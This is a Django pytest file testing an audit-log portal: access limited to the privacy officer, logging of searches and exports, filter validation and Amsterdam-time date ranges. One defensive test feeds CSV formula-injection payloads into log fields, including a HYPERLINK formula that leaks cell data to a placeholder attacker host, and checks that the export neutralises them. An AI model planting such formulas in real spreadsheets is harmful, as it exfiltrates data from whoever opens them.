import csv
import datetime
import io

import pytest
from django.urls import reverse

from samenwerk.privacy.audit import Onderwerp, record
from samenwerk.privacy.models import AuditEntry
from tests.auth import confirm_recently, login
from tests.querycount import assert_constant_queries

pytestmark = pytest.mark.django_db


def _rij(personas, gemeente_id, casus_id=1, actie="read"):
    record(
        actor=personas.professional,
        actie=actie,
        gebeurtenis="casus.bekeken",
        onderwerp=Onderwerp(gemeente_id=gemeente_id, casus_id=casus_id, inwoner_id=9),
    )


@pytest.mark.parametrize("persona", ["professional", "manager", "beheerder", "bestuurder"])
def test_only_the_privacy_officer_reads_the_log(client, personas, persona):
    login(client, getattr(personas, persona))
    assert client.get(reverse("portaal:logboek")).status_code == 403
    assert client.get(reverse("portaal:logboek-export")).status_code == 403


def test_search_shows_own_municipality_only_and_is_logged(client, personas):
    _rij(personas, personas.gemeente.pk, casus_id=11)
    _rij(personas, personas.gemeente.pk, casus_id=12, actie="update")
    _rij(personas, personas.andere_gemeente.pk, casus_id=13)
    login(client, personas.privacyfunctionaris)
    response = client.get(reverse("portaal:logboek"), {"actie": "read"})
    rijen = list(response.context["pagina"].object_list)
    assert [r.casus_id for r in rijen] == [11]
    zoek = AuditEntry.objects.filter(gebeurtenis="toegangslog.doorzocht").get()
    assert (zoek.actie, zoek.velden, zoek.gebruiker_id) == ("search", ["actie"], personas.privacyfunctionaris.pk)


def test_bad_filter_keeps_input(client, personas):
    login(client, personas.privacyfunctionaris)
    html = client.get(
        reverse("portaal:logboek"), {"van": "2026-05-01", "tot": "2026-04-01", "gebruiker": "sanne"}
    ).content.decode()
    assert "De einddatum ligt vóór de begindatum." in html and 'value="sanne"' in html


def test_export_is_a_csv_and_is_logged(client, personas):
    _rij(personas, personas.gemeente.pk, casus_id=11)
    login(client, personas.privacyfunctionaris)
    assert "/account/bevestigen/" in client.get(reverse("portaal:logboek-export"))["Location"]  # re-authenticate first
    confirm_recently(client)
    response = client.get(reverse("portaal:logboek-export"), {"casus": "2026-00011"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["tijdstip", "actie", "uitkomst"] and len(rows) == 2 and rows[1][10] == "11"
    assert AuditEntry.objects.filter(gebeurtenis="toegangslog.doorzocht", actie="export").exists()


def test_log_page_query_count_is_constant(client, personas):
    login(client, personas.privacyfunctionaris)
    assert_constant_queries(
        lambda n: [_rij(personas, personas.gemeente.pk) for _ in range(n)], lambda: client.get(reverse("portaal:logboek"))
    )


def test_export_cells_typed_by_others_are_never_formulas(client, personas):
    """An anonymous invitee's User-Agent, a forwarding invitee's organisation, a
    break-the-glass reason: each reaches the export and must not run in Excel."""
    from django.test import RequestFactory

    from samenwerk.privacy.audit import Grondslag
    from samenwerk.ui.spreadsheet import FORMULE_BEGIN

    kwaad = ['=HYPERLINK("http://kwaad.example/?d="&A1,"klik")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    for tekst in kwaad:
        record(
            actor=None,
            actie="read",
            gebeurtenis="overleg.uitnodiging.bekeken",
            request=RequestFactory().get("/", HTTP_USER_AGENT=tekst),
            organisatie=tekst,
            grondslag=Grondslag(noodtoegang=True, reden=tekst),
            onderwerp=Onderwerp(gemeente_id=personas.gemeente.pk, casus_id=5),
        )
    login(client, personas.privacyfunctionaris)
    confirm_recently(client)
    nummer = f"{datetime.date.today().year}-00005"  # the case number users type (the case itself was removed)
    response = client.get(reverse("portaal:logboek-export"), {"casus": nummer})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert len(rows) == len(kwaad)
    for row in rows:
        for kolom in ("user_agent", "organisatie", "reden"):
            assert row[kolom].startswith("'") and row[kolom][1:] in kwaad, (kolom, row[kolom])
            assert not row[kolom].startswith(FORMULE_BEGIN)


def test_the_period_counts_whole_days_in_dutch_time(personas, time_machine):
    """From and to are days on the Dutch clock: a row at 23:30 on the last day is in, one at
    00:30 the next day (23:30 UTC) is not, and neither is the evening before the first day."""
    import zoneinfo

    from samenwerk.privacy.selectors import zoek_in_log

    amsterdam = zoneinfo.ZoneInfo("Europe/Amsterdam")
    tijden = {
        "avond ervoor": datetime.datetime(2026, 3, 31, 23, 59, tzinfo=amsterdam),
        "eerste dag": datetime.datetime(2026, 4, 1, 0, 0, tzinfo=amsterdam),
        "laatste avond": datetime.datetime(2026, 4, 2, 23, 30, tzinfo=amsterdam),
        "dag erna": datetime.datetime(2026, 4, 3, 0, 30, tzinfo=amsterdam),
    }
    ids = {}
    for naam, moment in tijden.items():
        time_machine.move_to(moment)
        ids[record(actor=None, actie="read", gebeurtenis=naam, onderwerp=Onderwerp(gemeente_id=personas.gemeente.pk)).pk] = naam
    gevonden = zoek_in_log([personas.gemeente.pk], van=datetime.date(2026, 4, 1), tot=datetime.date(2026, 4, 2))
    assert sorted(ids[r.pk] for r in gevonden) == ["eerste dag", "laatste avond"]


def test_a_period_at_the_calendars_edges_is_a_search_not_an_error(client, personas):
    """1 January of year 1 and 31 December 9999 are dates a form accepts; they bound nothing."""
    _rij(personas, personas.gemeente.pk)
    login(client, personas.privacyfunctionaris)
    antwoord = client.get(reverse("portaal:logboek"), {"van": "0001-01-01", "tot": "9999-12-31"})
    assert antwoord.status_code == 200 and antwoord.context["pagina"].paginator.count >= 1
